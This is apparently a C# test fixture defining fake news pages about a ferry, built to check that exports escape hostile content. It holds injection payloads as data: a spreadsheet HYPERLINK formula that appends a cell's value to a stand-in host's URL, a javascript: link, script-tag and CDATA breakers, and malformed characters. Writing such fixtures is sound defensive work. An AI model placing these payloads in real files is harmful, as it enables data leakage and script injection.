using System.Text;

namespace Readout.Tests.Formats.Exports;

/// <summary>Pages whose words look like the syntax of the formats that they are written to.</summary>
internal static class HostilePages
{
    public const string Formula = "=HYPERLINK(\"http://vask.example/?\"&A1;\"ferry\")";

    public static IReadOnlyList<(string Path, byte[] Bytes)> All { get; } =
    [
        ("a \"quoted\" & odd.html", Encoding.UTF8.GetBytes($$$"""
            <html lang="en"><head><title>]]> &lt;b>Ferry&lt;/b> sails "again" --></title>
            <link rel="canonical" href="javascript:alert(1)">
            <script type="application/ld+json">{"@type":"NewsArticle","headline":"]]> <b>Ferry<\/b> sails \"again\" -->","datePublished":"2021-03-04T10:00:00+01:00","publisher":{"@type":"Organization","name":"Orlen \"Courier\"\\\n & Sons ]]>\ud800"}}</script></head>
            <body><h1>]]> &lt;b>Ferry&lt;/b> sails "again" --></h1>
            <p>ORLEN, 4 March 2021 - The ferry \N from Orlen to Vask will sail again on Monday 🛳️, Mayor Ines Hald said ]]> on Thursday.</p>
            <p>“{{{Formula}}}, &lt;/content&gt;&lt;script&gt;alert(1)&lt;/script&gt; and so on,” Hald told reporters; \"twice\", she said.</p>
            <p>At least 40 people wait at the pier, ‮the harbour office said. &#1; &#xFFFE; &#xD800; 𝔘nder water, it said.</p></body></html>
            """)),
        ("=b.txt", Encoding.UTF8.GetBytes($"{Formula}\n\nVASK, 5 March 2021 - Hald said: \"-2+3 is what the ferry costs, @home,\" and left.\n\n+40 people wait at the pier, Ines Hald said on Friday.\n\u0001\u000b <!-- {{{{ %>\tat \"the\" pier; and, so, on.\n")),
        ("c.txt", Encoding.UTF8.GetBytes("The ferry does not sail\n\nVASK, 6 March 2021 (NLA) - The ferry from Orlen to Vask will not sail on Monday, Ines Hald said.\r\n\r\nAt least 55 people wait at the pier, the harbour office said.\r\n")),
    ];
}
